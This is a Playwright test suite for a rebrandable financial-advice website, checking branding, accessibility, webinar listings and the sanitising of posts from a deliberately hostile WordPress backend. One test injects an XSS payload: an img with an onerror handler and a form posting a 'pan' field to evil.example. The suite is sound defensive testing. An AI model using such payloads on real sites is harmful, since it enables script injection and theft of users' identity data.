import { cpSync, mkdtempSync, rmSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import type { Page } from '@playwright/test';
import { expectAccessible } from '../accessible.ts';
import { expect, test } from '../fixtures.ts';
import { untilAlive } from '../held-page.ts';
import { type HostileWordPress, hostileWordPress } from '../hostile-wordpress.ts';
import { renderedDocument } from '../rendered-document.ts';
import { type Site, startSite } from '../site-process.ts';

// The same code as another firm's site, with a WordPress behind it that holds the worst posts.

test.describe.configure({ mode: 'default' });

const dataDir = mkdtempSync(path.join(os.tmpdir(), 'other-firm-'));
const siteConfig = path.join(import.meta.dirname, '../fixtures/other-firm.json');
let wordPress: HostileWordPress;
let site: Site;

test.beforeAll(async () => {
  test.setTimeout(300_000);
  wordPress = await hostileWordPress();
  cpSync(process.env.SITE_RELEASES ?? 'none', path.join(dataDir, 'releases'), { recursive: true });
  site = await startSite({ DATA_DIR: dataDir, SITE_CONFIG: siteConfig, WORDPRESS_URL: wordPress.url });
});

test.afterAll(async () => {
  await site?.stop();
  wordPress?.close();
  rmSync(dataDir, { recursive: true, force: true });
});

const title = (page: Page) => page.getByRole('heading', { level: 1 });

/** Fails on a script of a post that ran, and on anything that left the site's own host by itself. */
async function watched(page: Page): Promise<() => Promise<void>> {
  const strangers: string[] = [];
  page.on('request', (request) => {
    if (!request.url().startsWith(site.url) && !request.url().startsWith('data:')) strangers.push(request.url());
  });
  return async () => {
    expect(await page.evaluate(() => '__hit' in window)).toBe(false);
    expect(strangers).toEqual([]);
  };
}

test('another site.json makes it another firm, from header to footer and JSON-LD', async ({ page }) => {
  await page.goto(site.url);
  await expect(title(page)).toHaveText('Money with a plan');
  await expect(page).toHaveTitle(/Dhara Wealth/);
  await expect(page.getByRole('banner')).toContainText('Dhara Wealth');
  await expect(page.getByRole('contentinfo')).toContainText('ARN-999999');
  await expect(page.getByRole('contentinfo')).toContainText('U99999MH2019PTC999999');
  await expect(page.getByRole('contentinfo')).toContainText('Monday to Friday, 10 AM to 6 PM');
  await expect(page.getByRole('heading', { name: 'What our users said' })).toHaveCount(0);
  await expect(page.getByRole('heading', { name: 'How a goal gets its price' })).toBeVisible();
  const html = await (await page.request.get(site.url)).text();
  expect(html).toContain('"name":"Dhara Wealth"');
  for (const address of [
    '/',
    '/about',
    '/terms',
    '/privacy',
    '/disclosures',
    '/contactus',
    '/eyourself',
    '/sipcalculator',
  ]) {
    const text = await renderedDocument(page.request, site.url + address);
    expect(text, address).not.toMatch(/Saral|ARN-000000|Bengaluru|Bangalore|saralnivesh/);
  }
});

test('its logo stands in header, tab and icons, and its colour in the place of the green in both themes', async ({
  page,
}) => {
  const mark = await (await page.request.get(`${site.url}/favicon.svg`)).text();
  expect(mark).toContain('#1f3a8a');
  for (const [colorScheme, colour] of [
    ['light', 'rgb(31, 58, 138)'],
    ['dark', 'rgb(147, 180, 255)'],
  ] as const) {
    await page.emulateMedia({ colorScheme });
    for (const path of ['/', '/sipcalculator']) {
      await page.goto(site.url + path);
      const brand = page.getByRole('banner').getByRole('link', { name: 'Dhara Wealth' });
      await expect(brand.locator('svg')).toBeHidden();
      const logo = await brand.evaluate((link) => getComputedStyle(link, '::before').backgroundImage);
      const address = /url\("(.*)"\)/.exec(logo)?.[1] ?? '';
      expect(await (await page.request.get(address)).text()).toBe(mark);
    }
    await page.goto(`${site.url}/contactus`);
    await expect(page.getByRole('main').getByRole('button', { name: 'Send message' })).toHaveCSS(
      'background-color',
      colour,
    );
    await expectAccessible(page, `/contactus in the ${colorScheme} theme`);
  }
  const manifest = await (await page.request.get(`${site.url}/manifest.webmanifest`)).json();
  expect(manifest.name).toBe('Dhara Wealth');
  const [icon] = manifest.icons;
  expect(await (await page.request.get(site.url + icon.src)).text()).toContain(
    Buffer.from(mark.trim()).toString('base64'),
  );
});

test('its people, certificates and partners are shown with their pictures, and its WhatsApp beside the phone', async ({
  page,
}) => {
  for (const width of [360, 1280]) {
    await page.setViewportSize({ width, height: 740 });
    await page.goto(`${site.url}/aboutus`);
    for (const heading of ['Leaders', 'Certificates', 'Partners'])
      await expect(page.getByRole('heading', { name: heading })).toBeVisible();
    for (const name of ['Kiran Example, drawn', 'The certificate, with a seal', 'Logo of the example fund house']) {
      const picture = page.getByRole('img', { name });
      await picture.scrollIntoViewIfNeeded();
      await expect
        .poll(() => picture.evaluate((image: HTMLImageElement) => image.naturalWidth), name)
        .toBeGreaterThan(0);
    }
    await expect(page.getByRole('link', { name: 'Example fund house' })).toHaveAttribute(
      'href',
      'https://example.com/fund-house',
    );
    await expectAccessible(page, `/aboutus at ${width}`);
  }
  await page.goto(`${site.url}/contactus`);
  await expect(page.getByRole('link', { name: '+91 99999 00002' })).toHaveAttribute(
    'href',
    'https://wa.me/919999900002',
  );
});

test('webinars of site.json are shown in India’s time, can be kept in a calendar, and podcasts and reviews appear, the newest first', async ({
  page,
}) => {
  await page.goto(`${site.url}/eyourself`);
  await expect(page.getByText('17 January 2099, 11:00 AM IST')).toBeVisible();
  await expect(page.getByRole('link', { name: 'Register for How a goal gets its price' })).toBeVisible();
  const podcasts = page.getByRole('region', { name: 'Podcasts' });
  await expect(podcasts.getByRole('heading', { level: 3 })).toHaveText(['Rent or buy', 'The rupee in your pocket']);
  await expect(podcasts).toContainText('Kiran Example');
  await expect(podcasts).toContainText('20 minutes to listen');
  const reviews = page.getByRole('region', { name: 'Expert reviews' });
  await expect(reviews.getByRole('link', { name: 'Read A look at the SWP calculator' })).toHaveAttribute(
    'href',
    'https://example.com/dhara/review',
  );
  await expect(reviews).toContainText('Asha Example, chartered accountant');
  await expectAccessible(page, '/eyourself');
  const download = page.waitForEvent('download');
  await page.getByRole('button', { name: 'Add to calendar: How a goal gets its price' }).click();
  expect((await download).suggestedFilename()).toBe('webinar.ics');
});

test('the list shows every post as text, nothing runs, and paging reaches the last one', async ({ page }) => {
  const harmless = await watched(page);
  await page.goto(`${site.url}/blogs`);
  const titles = page.getByRole('main').getByRole('heading', { level: 2 });
  await expect(titles).toHaveCount(9);
  await expect(page.getByRole('link', { name: 'Script in the title', exact: true })).toBeVisible();
  await page.getByRole('link', { name: 'Older articles' }).click();
  await expect(titles).toHaveCount(7);
  // It begins at its top, as another page would.
  await expect(page.getByRole('heading', { level: 1 })).toBeFocused();
  expect(await page.evaluate(() => window.scrollY)).toBe(0);
  await expect(page.getByRole('link', { name: '<b>Bold</b> & “quoted”' })).toBeVisible();
  await expect(page.getByRole('link', { name: /^Untitled article of / })).toBeVisible();
  expect(await page.evaluate(() => document.documentElement.scrollWidth - window.innerWidth)).toBeLessThanOrEqual(0);
  await harmless();
});

test('every post opens by its address, shown safely, without anything that axe finds', async ({ page }) => {
  test.setTimeout(180_000);
  await page.setViewportSize({ width: 360, height: 740 });
  for (const { slug } of wordPress.posts) {
    const harmless = await watched(page);
    await page.goto(`${site.url}/blogs/${slug}`);
    const article = page.getByRole('article');
    await expect(article, slug).toBeVisible();
    await expect(
      article.locator('script, style, form, input, iframe, animate, math, base, meta, [onerror], [style]'),
    ).toHaveCount(0);
    await expect(page.getByRole('banner')).toBeVisible();
    await expectAccessible(page, slug);
    await harmless();
  }
});

test('posts that are fetched while the page stands are cleaned in the browser too', async ({ page, problems }) => {
  await page.route('**/wp-json/wp/v2/posts?slug=plain*', async (route) => {
    const answer = await route.fetch();
    const [post] = (await answer.json()) as { content: { rendered: string } }[];
    // As if the origin had let something through.
    const slipped =
      '<img src=x onerror="window.__hit=1"><form action="https://evil.example/"><input name="pan"></form><p style="position:fixed">slipped</p>';
    await route.fulfill({ json: [{ ...post, content: { rendered: slipped, protected: false } }] });
  });
  await page.goto(`${site.url}/blogs`);
  // Until then the link leads to a new document, which brings its post along.
  await untilAlive(page);
  await page.getByRole('link', { name: 'A plain article' }).click();
  await expect(page.getByRole('article').getByText('slipped')).toBeVisible();
  await expect(page.getByRole('article').locator('form, input, [style], [onerror]')).toHaveCount(0);
  expect(await page.evaluate(() => '__hit' in window)).toBe(false);
  // Chromium tells of the handler while the cleaner only parses it (the policy would have stopped it as well), and of
  // the picture that does not exist.
  for (const problem of problems.splice(0)) expect(problem).toMatch(/inline event handler|status of 404/);
});

test('a film asks YouTube for nothing before its click', async ({ page }) => {
  const harmless = await watched(page);
  await page.goto(`${site.url}/blogs/frames`);
  const film = page.getByRole('link', { name: /^Play the film/ });
  await expect(film).toBeVisible();
  await expect(page.getByRole('link', { name: 'Get in touch with us' })).toBeVisible();
  await harmless();
  await page.route('https://www.youtube-nocookie.com/**', (route) => route.fulfill({ body: 'player' }));
  await film.click();
  await expect(page.getByTitle('YouTube film')).toBeVisible();
});

for (const mood of ['down', 'hang', 'drip', 'broken'] as const) {
  test(`WordPress ${mood}: readers keep the last good copy, at once`, async ({ page }) => {
    await page.goto(`${site.url}/blogs`);
    await expect(page.getByRole('link', { name: 'A plain article' })).toBeVisible();
    wordPress.mood = mood;
    await page.goto(`${site.url}/blogs/plain`);
    await expect(title(page)).toHaveText('A plain article');
    expect([...wordPress.waitedFor], 'what the page was kept waiting for').not.toContain(mood);
    wordPress.mood = 'hostile';
  });
}
